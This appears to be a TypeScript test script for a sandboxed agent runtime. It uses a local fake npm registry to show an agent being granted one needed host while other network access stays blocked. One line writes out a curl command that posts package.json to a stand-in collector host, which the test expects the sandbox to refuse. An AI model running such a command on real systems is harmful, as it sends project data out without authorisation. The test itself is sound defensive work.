/**
 * An agent that installs a package, and asks for a host that the package turns out to need. The registry and the other
 * servers are this program's own.
 */
import assert from 'node:assert/strict';
import { createHash } from 'node:crypto';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { gzipSync } from 'node:zlib';
import { createRuntime } from 'workcell';

const registry = 'http://registry.example.com';
const archive = packed({
  'package/package.json': JSON.stringify({ name: 'forecast', version: '1.0.0', main: 'index.js' }),
  'package/index.js': `fetch('http://weather.example.com/').then((answer) => answer.text()).then(console.log);\n`,
});
const dist = {
  tarball: `${registry}/forecast/-/forecast-1.0.0.tgz`,
  integrity: `sha512-${createHash('sha512').update(archive).digest('base64')}`,
};
const versions = { '1.0.0': { name: 'forecast', version: '1.0.0', dist } };
const pages: Record<string, string | Buffer> = {
  'registry.example.com/forecast': JSON.stringify({
    name: 'forecast',
    'dist-tags': { latest: '1.0.0' },
    versions,
  }),
  'registry.example.com/forecast/-/forecast-1.0.0.tgz': archive,
  'weather.example.com/': 'sunny',
};
const server = createServer((request, response) => {
  const page = pages[`${request.headers.host}${request.url}`];
  response.writeHead(page === undefined ? 404 : 200).end(page);
});
await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
const address = `127.0.0.1:${(server.address() as AddressInfo).port}`;

const runtime = await createRuntime({
  backend: 'sandbox',
  env: { npm_config_registry: registry, npm_config_update_notifier: 'false' },
  network: {
    // With the registry in your own settings of npm, `preset: ['npm']` says the same.
    allow: ['registry.example.com:80'],
    // Where the names lead to; without this the gateway asks the resolver of your machine.
    hosts: {
      'registry.example.com': address,
      'weather.example.com': address,
      'collector.example.com': address,
    },
  },
});

/** Asks for the hosts that a command was refused, as an agent can after reading the notice on its observation. */
async function attempt(command: string): Promise<string> {
  let { output, notice = '' } = await runtime.run(command);
  const wanted = /refused (\S+:\d+)/.exec(notice)?.[1];
  if (wanted !== undefined && isAcceptable(wanted)) {
    console.log(`The agent asked for ${wanted}, and may have it.`);
    await runtime.network.allow(wanted);
    ({ output, notice = '' } = await runtime.run(command));
  }
  console.log(`$ ${command}\n${output.trim()}`);
  return notice === '' ? output : 'refused';
}

/** In place of a person. */
function isAcceptable(host: string): boolean {
  return host === 'weather.example.com:80';
}

assert.match(await attempt('npm install --no-audit --no-fund forecast'), /added 1 package/);
assert.equal(await attempt('node node_modules/forecast'), 'sunny\n');
assert.equal(await attempt('curl --silent --data @package.json http://collector.example.com/'), 'refused');
assert.deepEqual(runtime.network.rules()?.allow, ['registry.example.com:80', 'weather.example.com:80']);

await runtime.close();
server.close();

/** An archive as registries have it: a tar file, compressed. */
function packed(files: Record<string, string>): Buffer {
  const parts = Object.entries(files).map(([name, text]) => {
    const content = Buffer.from(text);
    const octal = (value: number, digits: number) => value.toString(8).padStart(digits, '0');
    const header = Buffer.alloc(512);
    header.write(name, 0);
    header.write(
      `0000644\0${octal(0, 7)}\0${octal(0, 7)}\0${octal(content.length, 11)}\0${octal(0, 11)}\0`,
      100,
    );
    header.write('        0', 148);
    header.write('ustar\x0000', 257);
    const sum = header.reduce((total, byte) => total + byte, 0);
    header.write(`${octal(sum, 6)}\0 `, 148);
    return Buffer.concat([header, content, Buffer.alloc((512 - (content.length % 512)) % 512)]);
  });
  return gzipSync(Buffer.concat([...parts, Buffer.alloc(1024)]));
}
